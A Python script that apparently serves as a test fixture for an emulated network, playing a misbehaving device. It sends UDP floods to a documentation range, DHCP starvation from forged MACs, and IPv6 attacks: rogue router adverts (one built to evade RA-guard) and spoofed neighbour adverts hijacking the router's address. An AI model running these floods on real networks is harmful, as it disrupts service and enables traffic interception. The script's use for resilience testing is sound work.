"""A misbehaving device: floods for a while, then stops by itself.

flood.py udp IFACE PPS SECONDS    UDP to random ports of random addresses in the emulated
                                  internet (198.51.100.0/24 only: never anywhere else)
flood.py dhcp IFACE PPS SECONDS   DISCOVERs from random forged MACs
flood.py nd IFACE PPS SECONDS     neighbour discovery: router and neighbour solicitations (from the
                                  device's MAC and from forged ones), rogue router adverts (one behind
                                  a destination-options header, as RA-guard evasion does) and
                                  neighbour adverts overriding the router's address
"""

import random
import socket
import sys
import time
from pathlib import Path

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.inet import IP, UDP
from scapy.layers.inet6 import (
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6ND_RS,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    IPv6ExtHdrDestOpt,
)
from scapy.layers.l2 import Ether

ETH_P_ALL = 0x0003


# Where a DISCOVER's varying fields sit: after Ethernet (14), IPv4 (20) and UDP (8) headers.
_ETH_SRC, _UDP_CHECKSUM, _BOOTP = slice(6, 12), slice(40, 42), 42
_XID, _CHADDR = slice(_BOOTP + 4, _BOOTP + 8), slice(_BOOTP + 28, _BOOTP + 34)


def forged_discovers(n, rng):
    """n DISCOVERs from random MACs: one frame built by scapy, its MAC and xid patched in each copy
    (building thousands with scapy takes seconds, and the flood should start at once)."""
    template = bytes(
        Ether(dst="ff:ff:ff:ff:ff:ff")
        / IP(src="0.0.0.0", dst="255.255.255.255")
        / UDP(sport=68, dport=67)
        / BOOTP(op=1)
        / DHCP(options=[("message-type", "discover"), "end"])
    )
    frames = []
    for _ in range(n):
        frame = bytearray(template)
        mac = bytes([0x02]) + rng.randbytes(5)
        frame[_ETH_SRC] = frame[_CHADDR] = mac
        frame[_XID] = rng.randbytes(4)
        frame[_UDP_CHECKSUM] = b"\0\0"  # no checksum, as IPv4 allows
        frames.append(bytes(frame))
    return frames


def neighbour_discovery(mac, n, rng):
    """n neighbour discovery frames from a device at `mac`: what a flooding toolkit (THC-IPv6's flood_router26,
    flood_solicitate6, fake_advertise6) sends, built once each and patched per copy like `forged_discovers`."""
    router = "fe80::1"
    own = f"fe80::{rng.getrandbits(16):x}"
    rogue_prefix = ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)
    kinds = [
        Ether(src=mac, dst="33:33:00:00:00:02") / IPv6(src=own, dst="ff02::2") / ICMPv6ND_RS(),
        Ether(src=mac, dst="33:33:ff:00:00:01") / IPv6(src=own, dst="ff02::1:ff00:1") / ICMPv6ND_NS(tgt=router),
        Ether(src=mac, dst="33:33:00:00:00:01")
        / IPv6(src=own, dst="ff02::1")
        / ICMPv6ND_RA(routerlifetime=1800)
        / ICMPv6NDOptSrcLLAddr(lladdr=mac)
        / rogue_prefix,
        Ether(src=mac, dst="33:33:00:00:00:01")
        / IPv6(src=own, dst="ff02::1")
        / IPv6ExtHdrDestOpt()
        / ICMPv6ND_RA(routerlifetime=1800)
        / rogue_prefix,
        Ether(src=mac, dst="33:33:00:00:00:01")
        / IPv6(src=own, dst="ff02::1")
        / ICMPv6ND_NA(tgt=router, R=1, S=0, O=1)
        / ICMPv6NDOptDstLLAddr(lladdr=mac),
    ]
    frames = []
    for i in range(n):
        frame = bytearray(bytes(kinds[i % len(kinds)]))
        if i % len(kinds) == 1 and i % 2:  # every other solicitation from a forged MAC (the newcomers' budget)
            frame[6:12] = bytes([0x02]) + rng.randbytes(5)
        frames.append(bytes(frame))
    return frames


def main():
    mode, iface, pps, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    rng = random.Random()
    if mode == "dhcp":
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        sock.bind((iface, 0))
        frames = forged_discovers(2000, rng)

        def send(i):
            sock.send(frames[i % len(frames)])
    elif mode == "nd":
        sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        sock.bind((iface, 0))
        frames = neighbour_discovery(Path(f"/sys/class/net/{iface}/address").read_text().strip(), 1000, rng)

        def send(i):
            sock.send(frames[i % len(frames)])
    elif mode == "udp":
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

        def send(i):
            sock.sendto(b"x" * 64, (f"198.51.100.{rng.randrange(1, 255)}", rng.randrange(1024, 65535)))
    else:
        sys.exit(f"unknown mode {mode!r}")
    start = time.monotonic()
    sent = 0
    while (now := time.monotonic()) - start < seconds:
        due = int((now - start) * pps)
        while sent < due:
            try:
                send(sent)
            except OSError:
                pass  # a full socket buffer is part of flooding
            sent += 1
        time.sleep(0.001)
    print(sent)


if __name__ == "__main__":
    main()
